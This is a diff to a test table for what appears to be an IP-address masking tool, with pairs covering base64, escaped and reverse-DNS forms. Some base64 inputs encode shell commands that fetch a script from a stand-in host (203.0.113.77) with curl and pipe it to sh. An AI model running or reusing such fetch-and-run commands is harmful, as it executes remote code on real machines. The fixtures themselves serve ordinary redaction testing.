@@ -134,7 +134,7 @@ FORMS = [
     ),
     (
         "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEz%0ALjc3OjgwODAvczIgfCBzaAo%3D%0A",
-        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQ6ODA4MC9zMiB8IHNoCg==%0A",
+        "/x?c=IyEvYmluL3NoCiMgeHh4eHh4eHh4eHh4eHh4eHh4eHgKY3VybCAtcyBodHRwOi8vMjAzLjAuMTEz%0ALjAvMjQ6ODA4MC9zMiB8IHNoCg==%0A",
     ),
     (
         "q=\\U00000032\\U00000030\\U00000033\\U0000002E\\U00000030\\U0000002E\\U00000031\\U00000031\\U00000033\\U0000002E\\U00000037\\U00000037",
@@ -143,6 +143,15 @@ FORMS = [
     ("q=2%u24000%u24003%u2400.%u24000%u2400.%u24001%u24001%u24003%u2400.%u24007%u24007", "q=203.0.113.0/24"),
     ("q=2\\x000\\x003\\x00.\\x000\\x00.\\x001\\x001\\x003\\x00.\\x007\\x007", "q=203.0.113.0/24"),
     ("q=2%000%003%00.%000%00.%001%001%003%00.%007%007", "q=203.0.113.0/24"),
+    # a word after a line break is no line of wrapped base64: kept as written (found by review)
+    (
+        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2h8c2g7%0AHelloWorld1&q=2",
+        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQveC5zaHxzaDs=%0AHelloWorld1&q=2",
+    ),
+    (
+        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L3guc2h8c2g7%0D%0Ahostname42a",
+        "/?p=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjAvMjQveC5zaHxzaDs=%0D%0Ahostname42a",
+    ),
     # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
     # a zone no narrower than the mask stays (found by review)
     ("/p/77.113.0.203.in-addr.arpa", "/p/[203.0.113.0/24].in-addr.arpa"),
